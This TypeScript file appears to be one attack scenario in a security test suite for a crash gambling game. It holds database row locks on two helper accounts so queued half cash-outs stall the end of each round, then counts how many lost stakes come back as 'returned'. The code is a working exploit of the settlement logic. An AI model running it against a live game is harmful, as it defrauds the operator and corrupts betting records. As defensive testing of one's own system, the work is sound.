// A player who wants lost flights of crash to count as interrupted, so that stakes are returned. Two further accounts of
// the player keep their own rows locked all the flight, as transactions of theirs do for moments: the automatic cash-out
// of one and the half cash-outs of the other wait for them, and must delay nothing that the leader of the table writes.
// The main account cashes out at 2.
import { setTimeout as sleep } from 'node:timers/promises'
import { readTableMessage } from '@saguao/contract/realtime/table-state.ts'
import { crashMsOf } from '@saguao/fair/games/crash.ts'
import pg from 'pg'
import { io } from 'socket.io-client'
import { makePlayers } from '../lib/modules.ts'
import type { Attack, Target } from './attack.ts'

const flights = 10
const stake = 100
const cashoutAt = 2
/** A half cash-out waits for a lock for 3 s at most. */
const movesEveryMs = 3_100
const timeoutMs = 150_000

type Answer = { readonly success: boolean; readonly data: Record<string, unknown>; readonly code?: string }

async function post({ address }: Target, path: string, body: object, token: string): Promise<Answer> {
  const headers = { 'content-type': 'application/json', token }
  return (
    await fetch(address + path, { method: 'POST', headers, body: JSON.stringify(body) })
  ).json() as Promise<Answer>
}

type Account = { readonly id: bigint; readonly token: string; readonly session: string }

async function openAccount(target: Target, cash: bigint): Promise<Account> {
  const [player] = await makePlayers(target.environment, 1, { cash })
  if (!player) throw new Error('no player')
  const { token, id } = player
  const { url } = (await post(target, '/game/url', { gameId: 'crash' }, token)).data as { url: string }
  const launch = new URLSearchParams(url.split('?')[1]).get('launch')
  const { session } = (await post(target, '/arcade/open', { launch }, token)).data as { session: string }
  return { id, token, session }
}

/** The phases of the table, as a watcher sees them. */
async function watch({ address }: Target, { token }: Account) {
  const socket = io(address, { query: { token }, transports: ['websocket'] })
  const seen = new Set<string>()
  socket.on('table', (sent: unknown) => {
    const message = readTableMessage(sent)
    if (message?.kind === 'state') seen.add(`${message.phase} ${message.round}`)
  })
  socket.on('connect', () => void socket.emit('watch', 'crash', () => undefined))
  const until = async (phase: string, round: number): Promise<void> => {
    const began = performance.now()
    while (!seen.has(`${phase} ${round}`)) {
      if (performance.now() - began > timeoutMs) throw new Error(`flight ${round} was not seen ${phase}`)
      await sleep(10)
    }
  }
  return { until, isOver: (round: number) => seen.has(`over ${round}`), close: () => socket.close() }
}

let requests = 0

async function bet(target: Target, { session, token }: Account, amount: number, choice = {}) {
  const body = { session, bet: amount, choice, requestId: `flights-${++requests}` }
  const { success, data, code } = await post(target, '/arcade/play', body, token)
  if (!success) throw new Error(`the bet was refused: ${code}`)
  const { roundId, fair } = data as { roundId: string; fair: { nonce: number } }
  return { roundId, round: fair.nonce }
}

const move = (target: Target, { session, token }: Account, roundId: string, kind: 'half' | 'cashout') =>
  post(
    target,
    '/arcade/move',
    { session, roundId, move: { [kind]: true }, requestId: `flights-${++requests}` },
    token,
  )

type Flown = { readonly status: string; readonly win: number }

/** One flight; the bet of the main account as it ended. */
async function fly(
  target: Target,
  table: Awaited<ReturnType<typeof watch>>,
  main: Account,
  [auto, half]: readonly [Account, Account],
): Promise<Flown> {
  const own = await bet(target, main, stake)
  await bet(target, auto, 1, { autoCashout: 1.01 })
  const halved = await bet(target, half, 1)
  const locker = new pg.Client({ connectionString: target.environment.superUrl })
  await locker.connect()
  try {
    await table.until('running', own.round)
    const startedAt = performance.now()
    await locker.query('begin')
    await locker.query('select from account where player_id = $1 for update', [auto.id])
    await locker.query('select from player_guard where player_id = $1 for update', [half.id])
    const isWaiting = () => performance.now() - startedAt < crashMsOf(cashoutAt) && !table.isOver(own.round)
    const moves: Promise<unknown>[] = []
    while (isWaiting()) {
      moves.push(move(target, half, halved.roundId, 'half').catch(() => undefined))
      for (let waited = 0; waited < movesEveryMs && isWaiting(); waited += 10) await sleep(10)
    }
    const left = table.isOver(own.round) ? undefined : move(target, main, own.roundId, 'cashout')
    await left
    await locker.query('commit')
    await Promise.all(moves)
    await table.until('over', own.round)
  } finally {
    await locker.end()
  }
  for (let tries = 0; tries < 600; tries += 1) {
    const { status, win } = (await post(target, '/fair/round', { roundId: own.roundId }, main.token))
      .data as Flown
    if (status !== 'open') return { status, win }
    await sleep(50)
  }
  throw new Error('the bet did not end')
}

export const attack: Attack = {
  summary:
    'half cash-outs that wait for rows which their player keeps locked, so that the end of the flight fails',
  run: async (target) => {
    const main = await openAccount(target, 10_000_000n)
    const others = [await openAccount(target, 100_000n), await openAccount(target, 100_000n)] as const
    for (const { token } of others)
      await post(target, '/protection/setLimit', { kind: 'stake', period: 'day', amount: 1_000 }, token)
    const table = await watch(target, main)
    const flown: Flown[] = []
    try {
      while (flown.length < flights) flown.push(await fly(target, table, main, others))
    } finally {
      table.close()
    }
    const returned = flown.filter(({ status }) => status === 'returned').length
    const won = flown.filter(({ win }) => win > 0)
    const back = won.reduce((sum, { win }) => sum + win, returned * stake) / (flights * stake)
    const lost = flights - won.length
    return {
      tried: flights,
      figures: `${won.length} flights won, ${returned} of ${lost} lost ones returned, ${back.toFixed(3)} back per unit`,
      findings: returned > 0 ? [`${returned} of ${lost} lost flights were returned`] : [],
    }
  },
}
